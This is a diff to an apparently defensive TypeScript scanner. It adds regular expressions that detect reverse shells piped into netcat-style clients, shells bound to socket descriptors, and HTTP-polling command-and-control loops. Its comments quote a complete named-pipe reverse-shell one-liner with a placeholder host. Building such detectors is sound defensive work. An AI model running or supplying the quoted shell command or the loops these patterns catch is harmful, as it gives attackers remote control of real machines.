@@ -31,6 +31,11 @@ const ONE_LINE_MORE = [
   String.raw`\bxterm\b[^\n]{0,40}\s-display\s+(?!127\.)\d{1,3}(?:\.\d{1,3}){3}:\d{1,2}\b`,
   // A shell payload built for a named host (msfvenom's LHOST); a placeholder (`LHOST=<ip>`, `$IP`) names nobody.
   String.raw`\bmsfvenom\b[^\n]{0,200}(?:reverse|bind|meterpreter)[^\n]{0,200}\bLHOST=(?!localhost\b|127\.|0\.0\.0\.0\b)[\w-]{1,63}(?:\.[\w-]{1,63})+`,
+  // Round 28: an interactive shell's output piped into a network client on its own line, the named pipe made on
+  // the line before (`mkfifo /tmp/f` then `cat /tmp/f | /bin/sh -i 2>&1 | nc host 4444 > /tmp/f`).
+  String.raw`\b(?:ba|z|k|da)?sh\s+-i\b[^\n|]{0,120}\|\s*(?:nc|ncat|netcat|telnet|openssl\s+s_client)\s`,
+  // Round 28: the socket's descriptor given by a format or a variable (Ruby's `sprintf('/bin/sh -i <&%d >&%d', f, f)`).
+  String.raw`\b(?:ba|z|k|da)?sh\s+-i\s*<&\s*(?:%d|\{\w{0,20}\}|\$\{?\w{1,20}\}?|#\{\w{1,20}\})\s*>&`,
   // A service that answers with a reverse shell to the host and port in its path, piped into a shell.
   String.raw`\breverse-shell\.sh\/[\w.-]{1,253}:\d{1,5}`,
 ].join("|");
@@ -124,11 +129,13 @@ function commandLoop(f: AuditText): TextHit[] {
 // ---- A command-and-control loop over HTTP: the same remote control as a socket, polled ----
 
 /** A loop that never ends by itself (`while true`, `while :`, `while ($true)`, `while True:`, `for (;;)`, setInterval). */
+// Round 28: `while :;` (the colon before a semicolon has no word boundary) and a PowerShell fetch of a URL held in
+// a variable (`$u = "https://…"` above the loop).
 const ENDLESS =
-  /\bwhile\s+(?:true|:|1)\b|\bwhile\s*\(\s*(?:\$?true|1)\s*\)|\bwhile\s+True\s*:|\bfor\s*\(\s*;\s*;\s*\)|\bsetInterval\s*\(|\bloop\s*\{/;
+  /\bwhile\s+(?:(?:true|1)\b|:(?=[\s;]))|\bwhile\s*\(\s*(?:\$?true|1)\s*\)|\bwhile\s+True\s*:|\bfor\s*\(\s*;\s*;\s*\)|\bsetInterval\s*\(|\bloop\s*\{/;
 /** What it fetches each time round. */
 const FETCHES =
-  /\b(?:curl|wget|iwr|irm|Invoke-RestMethod|Invoke-WebRequest)\b[^\n]{0,200}https?:\/\/|\b(?:requests|httpx)\.get\s*\(|\burlopen\s*\(|\bfetch\s*\(|\.DownloadString\s*\(|\.Open\s*\(?\s*"GET"\s*,\s*"https?:/i;
+  /\b(?:curl|wget|iwr|irm|Invoke-RestMethod|Invoke-WebRequest)\b[^\n]{0,200}https?:\/\/|\b(?:iwr|irm|Invoke-RestMethod|Invoke-WebRequest)\s+(?:-Uri\s+)?\$\w{1,40}\b|\b(?:requests|httpx)\.get\s*\(|\burlopen\s*\(|\bfetch\s*\(|\.DownloadString\s*\(|\.Open\s*\(?\s*"GET"\s*,\s*"https?:/i;
 /** …run as a command: eval/iex of a variable or a substitution, `sh -c "$x"`, exec/system/shell=True of a name. */
 const RUNS_FETCHED =
   /\beval\s+["']?\$|\b(?:iex|Invoke-Expression)\s*\(?\s*\$|\b(?:ba|z)?sh\s+-c\s+["']?\$|\|\s*(?:ba|z)?sh\b|\bsubprocess\.\w{1,12}\(\s*\w{1,40}\b[^\n]{0,60}shell\s*=\s*True|\bos\.(?:system|popen)\(\s*\w{1,40}\s*\)|\bsubprocess\.(?:getoutput|getstatusoutput)\(\s*\w{1,40}\s*\)|\bcreate_subprocess_shell\(\s*\w{1,40}\b|\bexec(?:Sync)?\(\s*\w{1,40}\s*[,)]|\beval\(\s*\w{1,40}\s*\)|\.(?:Exec|Run)\s*\(?\s*(?:"cmd(?:\.exe)?\s+\/c\s*"\s*&\s*)?\w{1,40}\.responseText\b/;
